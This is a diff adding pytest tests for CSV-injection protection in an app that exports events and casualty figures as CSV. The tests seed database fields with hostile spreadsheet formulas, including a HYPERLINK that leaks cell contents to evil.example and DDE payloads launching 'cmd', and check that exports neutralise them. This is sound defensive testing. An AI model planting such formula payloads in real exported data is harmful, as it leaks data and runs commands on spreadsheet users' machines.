@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+from collections.abc import Iterator
 from datetime import UTC, datetime
 
 import pytest
@@ -13,9 +15,9 @@ from sqlmodel import Session
 
 from app.config import Settings
 from app.db import get_engine
-from app.export import EVENT_COLUMNS, FIGURE_COLUMNS
+from app.export import EVENT_COLUMNS, FIGURE_COLUMNS, csv_lines
 from app.main import create_app
-from app.models import Article, Event
+from app.models import Actor, Article, Event, EventActor, Figure, Place
 from tests.conftest import API_KEY
 from tests.paging import all_items
 
@@ -112,3 +114,99 @@ def test_ten_thousand_rows_stream_in_chunks(database_url: str) -> None:
     assert len(chunks) > 5
     rows = _csv("".join(chunks))
     assert len(rows) == 10_000 and rows[-1]["excerpt"] == "Shelling, number 9999."
+
+
+# --- CSV injection (OWASP): formula-like text cells are neutralised, numbers stay numbers ---
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+HOSTILE = {  # where each hostile text goes -> the text
+    "place": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "admin1": "+cmd|' /C calc'!A0",
+    "actor": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "excerpt": "-2+3+cmd|' /C calc'!A0",
+    "date_text": "\t=1+1",
+    "claimant": "\r=1+1",
+    "hedge": "=HYPERLINK(\"http://evil.example\")",
+    "figure_text": "-5 attackers",
+}
+
+
+def _store_hostile_rows(url: str) -> None:
+    """One event and one figure whose every text field starts like a formula."""
+    with Session(get_engine(url)) as session:
+        article = Article(sha256="f" * 64, text=HOSTILE["excerpt"], language="en")
+        place = Place(name=HOSTILE["place"], kind="settlement", country="BF",
+                      admin1=HOSTILE["admin1"], lat=-10.5, lon=-3.2)
+        actor = Actor(name=HOSTILE["actor"], kind="armed_group")
+        session.add_all([article, place, actor])
+        session.flush()
+        event = Event(article_id=article.id, place_id=place.id, country="BF", type="shelling",
+                      date_text=HOSTILE["date_text"], sentence_index=0,
+                      excerpt_text=HOSTILE["excerpt"], excerpt_start=0,
+                      excerpt_end=len(HOSTILE["excerpt"]))
+        session.add(event)
+        session.flush()
+        session.add(EventActor(event_id=event.id, actor_id=actor.id, role="initiator"))
+        session.add(Figure(article_id=article.id, event_id=event.id, value=-5.0, unit="person",
+                           counts="killed", claimant=HOSTILE["claimant"], hedge=HOSTILE["hedge"],
+                           hedged=True, text=HOSTILE["figure_text"], start=0, end=2,
+                           excerpt_text=HOSTILE["excerpt"], excerpt_start=0,
+                           excerpt_end=len(HOSTILE["excerpt"])))
+        session.commit()
+
+
+@pytest.fixture
+def hostile_csv(database_url: str) -> Iterator[dict[str, bytes]]:
+    """The raw bytes of the events and figures CSV exports over the hostile rows."""
+    _store_hostile_rows(database_url)
+    app = create_app(Settings(database_url=database_url, api_key=API_KEY, warm_up=False))
+    with TestClient(app) as client:
+        yield {path: client.get(f"/v1/{path}", params={"format": "csv"}).content
+               for path in ("events", "figures")}
+
+
+def test_no_csv_text_cell_starts_like_a_formula(hostile_csv: dict[str, bytes]) -> None:
+    """Read back with the csv module from the raw bytes: every risky start carries a quote."""
+    for path, body in hostile_csv.items():
+        rows = list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))
+        assert len(rows) == 2, (path, rows)
+        for cell in rows[1]:
+            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), (
+                path, cell)
+    events, figures = hostile_csv["events"], hostile_csv["figures"]
+    assert b"\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1" in events
+    assert b",'+cmd|' /C calc'!A0," in events
+    assert b",'\t=1+1," in events and b",\"'\r=1+1\"," in figures  # CR forces quotes
+    assert b",-3.2," in events and b",-10.5," in events  # coordinates stay numbers
+    assert b",-5.0," in figures
+
+
+def test_pandas_reads_neutralised_text_and_real_numbers(hostile_csv: dict[str, bytes]) -> None:
+    pandas = pytest.importorskip("pandas")
+    events = pandas.read_csv(io.BytesIO(hostile_csv["events"]), keep_default_na=False)
+    figures = pandas.read_csv(io.BytesIO(hostile_csv["figures"]), keep_default_na=False)
+    assert events["longitude"].dtype == "float64" and events["longitude"][0] == -3.2
+    assert events["latitude"][0] == -10.5 and figures["value"][0] == -5.0
+    assert events["location"][0] == "'" + HOSTILE["place"]
+    assert events["admin1"][0] == "'" + HOSTILE["admin1"]
+    assert events["actor1"][0] == "'" + HOSTILE["actor"]
+    assert events["excerpt"][0] == "'" + HOSTILE["excerpt"]
+    assert events["date_text"][0] == "'" + HOSTILE["date_text"]
+    assert figures["claimant"][0] == "'" + HOSTILE["claimant"]
+    assert figures["hedge"][0] == "'" + HOSTILE["hedge"]
+    assert figures["text"][0] == "'" + HOSTILE["figure_text"]
+    for frame in (events, figures):
+        for column in frame:
+            for cell in frame[column]:
+                assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), (
+                    column, cell)
+
+
+@pytest.mark.parametrize(("text", "cell"), [
+    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-", "'-"), ("-5", "-5"), ("+1.5", "+1.5"),
+    ("-1e5", "-1e5"), ("-.5", "-.5"), ("Kursk", "Kursk"), ("1=1", "1=1"), ("", "")])
+def test_csv_cells_are_neutralised_unless_plain_numbers(text: str, cell: str) -> None:
+    lines = "".join(csv_lines(("a",), [{"a": text}])).split("\r\n", 1)[1]
+    assert next(csv.reader(io.StringIO(lines, newline=""))) == [cell]
